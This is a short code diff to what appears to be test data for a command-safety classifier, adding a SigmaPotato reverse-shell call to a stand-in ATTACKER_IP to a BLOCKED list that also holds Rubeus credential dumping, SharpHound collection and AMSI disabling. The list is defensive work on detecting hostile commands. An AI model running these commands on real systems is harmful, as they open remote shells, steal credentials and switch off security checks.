@@ -147,6 +147,7 @@ BLOCKED = [
     ("powershell", "fltmc instances", "env.machine-discovery"),
     ("powershell", "driverquery /v", "env.machine-discovery"),
     ("powershell", '[Rubeus.Program]::Main("dump /user:administrator".Split())', "unverifiable"),
+    ("powershell", '[SigmaPotato]::Main(@("--revshell","ATTACKER_IP","4444"))', "unverifiable"),  # any type
     ("powershell", "[SharpHound.Program]::Main(@('-c', 'All'))", "unverifiable"),
     ("powershell", "Disable-Amsi", "destructive.machine-state"),
     ("powershell", ". .\\Disable-Amsi.ps1; Disable-Amsi", "destructive.machine-state"),
@@ -248,6 +249,7 @@ BLOCKED = [
 ]
 
 ALLOWED = [
+    ("powershell", "[Math]::Max(1, [IO.Path]::GetFileName($f).Length)"),  # other static members
     ("posix", "ls -la ~"),
     ("posix", "ls -R src"),
     ("posix", "tree src"),
